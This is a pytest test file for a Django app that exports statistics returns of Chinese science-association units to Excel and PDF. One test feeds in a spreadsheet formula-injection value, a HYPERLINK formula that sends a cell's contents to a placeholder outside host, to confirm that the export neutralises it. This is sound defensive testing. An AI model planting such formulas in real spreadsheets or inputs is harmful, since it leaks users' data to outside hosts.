"""The return in the official layout: an Excel sheet a table, named by its code, with the
roll-up's figures, and a PDF ending in the sign-off block."""

import io
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django.core.management import CommandError, call_command
from pypdf import PdfReader

from returns import output, services
from returns.models import ReturnItem, ReturnValue, StatisticsReturn

pytestmark = pytest.mark.django_db
YEAR = 2025
COLUMNS = ["项目", "代码", "计量单位", "本年", "上年", "说明"]


def _item(table_code, code, year=YEAR):
    return ReturnItem.objects.get(table__year=year, table__code=table_code, code=code)


def _accept(unit, year=YEAR, **figures):
    """An accepted return for ``unit``: its computed items as counted, entered ones given
    as {"表号:行次": number}."""
    statistics_return = services.open_return(unit.pk, year)
    for key, number in figures.items():
        table_code, code = key.split(":")
        ReturnValue.objects.update_or_create(statistics_return=statistics_return, item=_item(table_code, code, year),
                                             defaults={"value": Decimal(number)})
    statistics_return.status = StatisticsReturn.Status.ACCEPTED
    statistics_return.head, statistics_return.statistician, statistics_return.filled_by = "王建华", "李红梅", "赵磊"
    statistics_return.phone, statistics_return.reported_on = "0393-8800110", date(year + 1, 1, 20)
    statistics_return.save()
    return statistics_return


def _workbook(unit, year=YEAR):
    return openpyxl.load_workbook(io.BytesIO(output.write_xlsx(unit.pk, year)))


def _rows(ws):
    """{(项目, 代码): (本年, 上年, 说明)} of a sheet's item lines."""
    header = next(r for r in range(1, 10) if ws.cell(r, 1).value == "项目")
    rows = {}
    for r in range(header + 1, ws.max_row + 1):
        code = ws.cell(r, 2).value
        if code:
            rows[(ws.cell(r, 1).value, code)] = (ws.cell(r, 4).value, ws.cell(r, 5).value, ws.cell(r, 6).value)
    return rows, header


def test_a_county_gets_a_sheet_per_table_named_by_its_code(tree):
    wb = _workbook(tree.county_a)
    codes = [t.code for t in services.tables_for(tree.county_a, YEAR)]
    assert wb.sheetnames == codes
    assert wb.sheetnames[0] == "AK表1-1" and wb.sheetnames[-1] == "KKX表11"
    assert "GKX表7" in wb.sheetnames and "AX表1-2" not in wb.sheetnames
    ws = wb["CKX表3"]
    assert "华龙区科协" in ws["A1"].value and "2025" in ws["A1"].value and "学术交流活动" in ws["A1"].value
    _rows_, header = _rows(ws)
    assert [ws.cell(header, c).value for c in range(1, 7)] == COLUMNS
    assert any("无下级填报单位" in (ws.cell(r, 1).value or "") for r in range(header, ws.max_row + 1))


def test_a_society_gets_its_own_tables(tree):
    wb = _workbook(tree.society)
    assert "AX表1-2" in wb.sheetnames
    assert "AK表1-1" not in wb.sheetnames and "GKX表7" not in wb.sheetnames
    assert wb.sheetnames == [t.code for t in services.tables_for(tree.society, YEAR)]


def test_the_city_sheet_holds_the_roll_up_and_names_who_is_missing(tree):
    _accept(tree.county_a, **{"AK表1-1:07": 7, "CKX表3:04": 8})
    _accept(tree.society, **{"CKX表3:04": 35})
    rolled = services.roll_up(tree.city.pk, YEAR)
    wb = _workbook(tree.city)
    rows, _header = _rows(wb["CKX表3"])
    papers = _item("CKX表3", "04")
    assert rows[("交流论文", "04")][0] == int(rolled.totals[papers.pk]) == 43
    rows, header = _rows(wb["AK表1-1"])
    assert rows[("机关人数", "07")][0] == 7
    # Every number is the roll-up's, sheet by sheet.
    for table in services.tables_for(tree.city, YEAR):
        rows, _header = _rows(wb[table.code])
        for item in table.items.all():
            assert rows[(item.name, item.code)][0] == rolled.totals[item.pk], item
    # 其中 lines are indented; the note names county B, whose return is not in.
    ws = wb["EKX表5"]
    indents = {ws.cell(r, 1).value: ws.cell(r, 1).alignment.indent for r in range(1, ws.max_row + 1) if ws.cell(r, 2).value}
    assert indents["其中：专家科普报告会"] > 0 and indents["举办科普宣讲活动"] == 0
    texts = [ws.cell(r, 1).value or "" for r in range(1, ws.max_row + 1)]
    assert any("未计入本表" in t and "濮阳县科协" in t and "华龙区科协" not in t for t in texts)


def test_last_year_column_is_last_years_roll_up(tree):
    _accept(tree.county_a, year=2025, **{"AK表1-1:07": 6})
    _accept(tree.county_a, year=2026, **{"AK表1-1:07": 9})
    rows, _header = _rows(_workbook(tree.county_a, 2026)["AK表1-1"])
    assert rows[("机关人数", "07")][:2] == (9, 6)
    rows, _header = _rows(_workbook(tree.county_a, 2025)["AK表1-1"])
    assert rows[("机关人数", "07")][1] is None  # no 2024 catalogue: 上年 left blank


def test_formula_like_unit_name_and_note_are_plain_text(tree):
    tree.county_a.name = '=HYPERLINK("http://x/?"&B2,"点击")'
    tree.county_a.save()
    statistics_return = _accept(tree.county_a, **{"AK表1-1:07": 7})
    value = statistics_return.values.get(item=_item("AK表1-1", "07"))
    value.note = "=1+2"
    value.save()
    statistics_return.filled_by = "@SUM(A1)"
    statistics_return.save()
    wb = _workbook(tree.county_a)
    ws = wb["AK表1-1"]
    title = ws["A1"]
    assert title.value.startswith("=HYPERLINK") and title.data_type == "s" and title.quotePrefix
    rows, _header = _rows(ws)
    assert rows[("机关人数", "07")][2] == "=1+2"
    for row in ws.iter_rows():
        for cell in row:
            if isinstance(cell.value, str) and cell.value[:1] in "=+-@":
                assert cell.data_type == "s" and cell.quotePrefix, cell.value
    # Nothing in the workbook is a formula.
    raw = output.write_xlsx(tree.county_a.pk, YEAR)
    assert b"<f>" not in raw


def test_the_pdf_holds_every_table_and_the_sign_off(tree):
    _accept(tree.county_a, **{"AK表1-1:07": 7})
    reader = PdfReader(io.BytesIO(output.write_pdf(tree.county_a.pk, YEAR)))
    text = "".join(page.extract_text() for page in reader.pages).replace(" ", "")
    for code in ("AK表1-1", "CKX表3", "KKX表11"):
        assert code in text
    for words in ("单位负责人", "统计负责人", "填表人", "联系电话", "报出日期", "盖章", "王建华", "李红梅", "2026年1月20日"):
        assert words in text, words


def test_the_command_writes_both_files_and_refuses_in_chinese(tree, tmp_path):
    xlsx, pdf = tmp_path / "r.xlsx", tmp_path / "r.pdf"
    call_command("statistics_return", "--year", str(YEAR), "--organization", str(tree.society.pk),
                 "--xlsx", str(xlsx), "--pdf", str(pdf), stdout=io.StringIO())
    assert openpyxl.load_workbook(xlsx).sheetnames[0] == "AX表1-2"
    assert pdf.read_bytes().startswith(b"%PDF")
    with pytest.raises(CommandError, match="没有编号为"):
        call_command("statistics_return", "--year", str(YEAR), "--organization", "999999", "--xlsx", str(xlsx))
    with pytest.raises(CommandError, match="没有 1999 年度"):
        call_command("statistics_return", "--year", "1999", "--organization", str(tree.city.pk), "--xlsx", str(xlsx))
    with pytest.raises(CommandError, match="不单独填报"):
        call_command("statistics_return", "--year", str(YEAR), "--organization", str(tree.township_a.pk),
                     "--xlsx", str(xlsx))
